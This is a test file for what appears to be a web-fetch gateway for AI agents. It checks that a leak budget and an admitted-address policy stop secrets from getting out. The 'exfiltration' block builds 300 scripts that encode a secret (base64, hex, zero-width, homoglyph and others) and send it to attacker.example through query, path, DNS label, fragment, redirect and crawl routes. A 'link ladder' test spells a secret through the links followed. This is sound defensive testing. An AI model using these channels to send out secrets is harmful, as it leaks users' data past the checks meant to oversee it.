import { afterEach, describe, expect, test } from 'vitest';
import { createLeakWorld, linkPage, type LeakWorld } from '../support/leak-world.ts';
import { seededRandom } from '../support/seeded-random.ts';
import { sized } from '../support/sized.ts';

let world: LeakWorld | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

/** For the full sizes. */
const LONG_MS = 3_600_000;

const ALPHABET = 'abcdefghijklmnopqrstuvwxyz_';
const newSecret = (random: () => number): string =>
  Array.from({ length: 48 }, () => ALPHABET[Math.floor(random() * ALPHABET.length)]).join('');

describe('the link ladder', () => {
  /** A host's pages have one link for every symbol; which link is followed spells the secret. */
  const climb = async (policy: object, links: number, domains: number) => {
    const hostOf = (index: number) => `http://d${index % domains}x.example`;
    world = await createLeakWorld({ ...policy }, ({ pathname, hostname }) => {
      const step = pathname.split('/').length - 1;
      const host = Number(/^d(\d+)x/.exec(hostname)?.[1] ?? 0);
      const symbols = Array.from({ length: links }, (_, index) => index);
      // The next step is on the next domain, so that every domain is told as little as possible.
      return linkPage(
        `Step ${step}`,
        symbols.map((symbol) => `${hostOf(host + 1)}${pathname.replace(/\/$/, '')}/${symbol}`),
      );
    });
    world.listed.push(...Array.from({ length: Math.min(20, domains) }, (_, index) => `${hostOf(index)}/`));
    const { key, id } = await world.gateway.newKey({ tier: 'pro' });
    const [from = ''] = await world.search(key, 'mill');
    const random = seededRandom(links + domains);
    const wanted = Array.from({ length: 32 }, () => Math.floor(random() * links));
    let at = new URL(from);
    await world.read(key, from);
    for (const symbol of wanted) {
      const host = Number(/^d(\d+)x/.exec(at.hostname)?.[1] ?? 0);
      const next = new URL(`${hostOf(host + 1)}${at.pathname.replace(/\/$/, '')}/${symbol}`);
      const { isAsked } = await world.read(key, next.href);
      if (isAsked) break;
      at = next;
    }
    // What the strangers read from their logs: the path of the last request.
    const last = new URL(world.http.at(-1) ?? from);
    const told = last.pathname
      .split('/')
      .slice(1)
      .filter((part) => part !== '')
      .map(Number);
    expect(told).toEqual(wanted.slice(0, told.length));
    const who = { owner: `key ${id}`, payers: [`key ${id}`] };
    const booked = (await world.gateway.store.leaks.booked(who)) / 1_000;
    await world.close();
    world = undefined;
    return { characters: told.length, bits: told.length * Math.log2(links), booked };
  };

  const cases: [links: number, domains: number][] = [
    [27, 1],
    [27, 100],
    [1_000, 10],
    [27, 3],
    [100, 1],
    [100, 10],
    [1_000, 100],
    [10_000, 1],
    [10_000, 100],
  ];
  const count = sized('ladders of links', { small: 1, large: 5, full: cases.length });
  const budgets = [
    ['admitted', 64, 192],
    ['strict', 24, 48],
  ] as const;
  const rows = cases
    .slice(0, count)
    .flatMap(([links, domains]) => budgets.map((budget) => [links, domains, ...budget] as const));
  test.each(rows)(
    '%i links on %i domains, %s: at most %i bits to one and %i to all',
    async (links, domains, fetch, one, all) => {
      const { bits, booked, characters } = await climb({ fetch }, links, domains);
      console.log(
        `${fetch}, ${links} links, ${domains} domains: ${characters} of 32 characters, ${bits.toFixed(1)} bits of ${booked.toFixed(1)} booked`,
      );
      expect(bits).toBeLessThanOrEqual(booked);
      expect(booked).toBeLessThanOrEqual(domains === 1 ? one : all);
      expect(characters).toBeGreaterThan(0);
    },
  );

  const free = cases
    .filter(([links]) => links === 27)
    .slice(0, sized('ladders without a budget', { small: 1, large: 2, full: 3 }));
  test.each(free)('without a budget, %i links on %i domains spell all of it', async (links, domains) => {
    const unlimited = { leak_bits: 100_000, leak_bits_per_domain: 100_000 };
    const { characters } = await climb({ fetch: 'admitted', ...unlimited }, links, domains);
    console.log(`links are admitted, ${links} links, ${domains} domains: ${characters} of 32 characters`);
    expect(characters).toBe(32);
  });
});

describe('exfiltration', () => {
  const rot13 = (text: string) =>
    text.replace(/[a-z]/g, (one) => String.fromCharCode(((one.charCodeAt(0) - 84) % 26) + 97));
  const encodings: Record<string, (secret: string) => string> = {
    plain: (secret) => secret,
    base64: (secret) => Buffer.from(secret).toString('base64url'),
    hex: (secret) => Buffer.from(secret).toString('hex'),
    rot13,
    'zero-width': (secret) => [...secret].join('\u200b'),
    homoglyph: (secret) => secret.replaceAll('a', 'а').replaceAll('e', 'е'),
    'double-encoded': (secret) => [...secret].map((one) => `%25${one.charCodeAt(0).toString(16)}`).join(''),
    reversed: (secret) => [...secret].toReversed().join(''),
    uppercase: (secret) => secret.toUpperCase(),
    numbers: (secret) => [...secret].map((one) => one.charCodeAt(0)).join('-'),
  };
  const labels = (text: string) =>
    (
      Buffer.from(text)
        .toString('hex')
        .match(/.{1,60}/g) ?? []
    ).join('.');
  const A = 'attacker.example';
  const carriers: Record<string, (told: string) => string[]> = {
    query: (told) => [`http://${A}/?q=${told}`],
    path: (told) => [`http://${A}/${told}`],
    label: (told) => [`http://${labels(told)}.${A}/`],
    fragment: (told) => [`http://${A}/#${told}`],
    'route in a fragment': (told) => [`http://${A}/#/${told}`],
    userinfo: (told) => [`http://${told}:x@${A}/`],
    image: (told) => [`http://${A}/${told}.png`],
    sitemap: (told) => [`http://${A}/${told}/sitemap.xml`],
    robots: (told) => [`http://${labels(told)}.${A}/robots.txt`],
    chunks: (told) =>
      (told.match(/.{1,12}/gu) ?? []).slice(0, 20).map((part, index) => `http://${A}/${index}/${part}`),
  };
  type Route = (world: LeakWorld, key: string, urls: string[], told: string) => Promise<unknown>;
  const routes: Record<string, Route> = {
    extract: (at, key, urls) => at.read(key, ...urls),
    'search, then fetch': async (at, key, urls) => {
      for (const url of urls) await at.search(key, url);
      return at.read(key, ...urls);
    },
    'crawl and map': async (at, key, urls) => {
      await at.ask(key, '/crawl', { url: urls[0] });
      return at.ask(key, '/map', { url: urls[0] });
    },
    'redirect of a page that was shown': async (at, key, urls) => {
      const [first = ''] = await at.search(key, 'redirects');
      return at.read(key, ...urls.map((url) => `${first}go?to=${encodeURIComponent(url)}`));
    },
    'patterns of a crawl': async (at, key, _urls, told) => {
      const [first = ''] = await at.search(key, 'attacker');
      return at.ask(key, '/crawl', { url: first, select_paths: [`/${told}`], limit: 3 });
    },
    'other doors': async (at, key, urls) => {
      await at.ask(key, '/v2/scrape', { url: urls[0] });
      await at.ask(key, '/open-webui/loader', { urls });
      for (const url of urls.slice(0, 1))
        await at.gateway.app.request(`http://127.0.0.1/r/${url}`, {
          headers: { authorization: `Bearer ${key}` },
        });
    },
  };
  const scripts = Object.keys(routes).flatMap((route) =>
    Object.keys(carriers).flatMap((carrier, index) =>
      // Five of ten encodings for each, all of them over two carriers: 300 scripts.
      Object.keys(encodings)
        .filter((_, place) => place % 2 === index % 2)
        .map((encoding) => ({ route, carrier, encoding })),
    ),
  );
  const pageOf = (url: URL) => {
    const to = url.searchParams.get('to');
    return to === null ? linkPage(`Page ${url.pathname}`, [`http://${A}/more`]) : { to };
  };
  /** Runs scripts with secrets; the scripts whose secrets the strangers could read, and those that told anything. */
  const attack = async (policy: object, some: typeof scripts, secrets: string[]) => {
    world = await createLeakWorld({ ...policy }, pageOf);
    world.listed.push(`http://${A}/`, 'http://redirect.example/');
    const read: string[] = [];
    const told: string[] = [];
    for (const { route, carrier, encoding } of some) {
      const seen = new Set<string>();
      let booked = Infinity;
      for (const secret of secrets) {
        const text = encodings[encoding]?.(secret) ?? '';
        world.dns.length = 0;
        world.http.length = 0;
        const { key, id } = await world.gateway.newKey({ tier: 'pro' });
        await routes[route]?.(world, key, carriers[carrier]?.(text) ?? [], text);
        const log = `${world.dns.join('\n')}\n${world.http.map((one) => decodeURIComponent(one)).join('\n')}`;
        seen.add(log);
        const part = text.slice(0, 10);
        if ([part, labels(text).slice(0, 20), encodeURI(part)].some((one) => log.includes(one)))
          read.push(`${route} ${carrier} ${encoding}`);
        booked = Math.min(
          booked,
          await world.gateway.store.leaks.booked({ owner: '', payers: [`key ${id}`] }),
        );
      }
      if (Math.log2(seen.size) > booked / 1_000 || [...seen].some((log) => log.trim() !== ''))
        told.push(`${route} ${carrier} ${encoding}`);
    }
    await world.close();
    world = undefined;
    return { read: [...new Set(read)], told };
  };
  const random = seededRandom(31);
  // 48 characters of 27: 228 bits.
  const secrets = Array.from({ length: 12 }, () => newSecret(random));
  const count = sized('secrets for each exfiltration script', { small: 1, large: 3, full: 12 });
  const every = sized('exfiltration scripts', { small: 12, large: 300, full: 300 });

  test(
    'tells nothing and looks nothing up where addresses have to be admitted',
    async () => {
      expect(scripts).toHaveLength(300);
      const some = scripts.filter((_, index) => index % (300 / every) === 0);
      expect(await attack({ fetch: 'admitted' }, some, secrets.slice(0, count))).toEqual({
        read: [],
        told: [],
      });
      console.log(`${some.length} scripts × ${count} secrets: nothing told`);
    },
    LONG_MS,
  );

  test('works where any address may be read', async () => {
    const some = scripts.filter(({ carrier, encoding }) => carrier === 'path' && encoding === 'base64');
    expect(some).toHaveLength(Object.keys(routes).length);
    const { read } = await attack({}, some, secrets.slice(0, 1));
    // A pattern that names no link of the page leads nowhere.
    expect(read).toEqual(
      some.map(({ route }) => `${route} path base64`).filter((one) => !one.startsWith('patterns')),
    );
  });
});

describe('research walks', () => {
  test(
    'are hardly ever stopped to ask a person',
    async () => {
      // Sites of five to a hundred pages, whose pages link to their own site and to others.
      const sizeOf = (site: number) => 5 + ((site * 37) % 96);
      const urlOf = (site: number, page: number) => `http://site${site}.example/page/${page % sizeOf(site)}`;
      world = await createLeakWorld({ fetch: 'admitted' }, ({ hostname, pathname }) => {
        const site = Number(/site(\d+)/.exec(hostname)?.[1] ?? 0);
        const page = Number(pathname.split('/').at(-1));
        const own = Array.from({ length: sizeOf(site) }, (_, index) => urlOf(site, page + index + 1));
        return linkPage(`Page ${page} of site ${site}`, [
          ...new Set([...own, ...[1, 2, 3].map((by) => urlOf(site + by, page))]),
        ]);
      });
      const random = seededRandom(500);
      const upTo = (most: number) => 1 + Math.floor(random() * most);
      const walks = sized('research walks', { small: 3, large: 60, full: 500 });
      let asked = 0;
      let pages = 0;
      for (let walk = 0; walk < walks; walk += 1) {
        const { key } = await world.gateway.newKey({ tier: 'pro' });
        let isAsked = false;
        const open = async (url: string): Promise<string> => {
          const answer = await world?.read(key, url);
          pages += 1;
          isAsked ||= answer?.isAsked === true;
          return answer?.content ?? '';
        };
        const follow = async (content: string, hops: number): Promise<void> => {
          const links = [...content.matchAll(/\]\((http[^)]+)\)/g)].map(([, link]) => link ?? '');
          const link = links[Math.floor(random() * links.length)];
          if (hops > 0 && link !== undefined) await follow(await open(link), hops - 1);
        };
        // One to three searches; of each two or three results are read, and up to two links from there.
        for (let search = upTo(3); search > 0; search -= 1) {
          const start = upTo(1_000);
          world.listed.splice(
            0,
            Infinity,
            ...Array.from({ length: 4 + upTo(6) }, (_, index) => urlOf(start + index, upTo(50))),
          );
          const found = await world.search(key, `query ${walk} ${search}`);
          for (const url of found.slice(0, 1 + upTo(2))) {
            await follow(await open(url), Math.floor(random() * 3));
          }
        }
        if (isAsked) asked += 1;
      }
      console.log(`${walks} walks over ${pages} pages: a person is asked in ${asked}`);
      expect(asked).toBeLessThanOrEqual(walks * 0.01);
    },
    LONG_MS,
  );
});
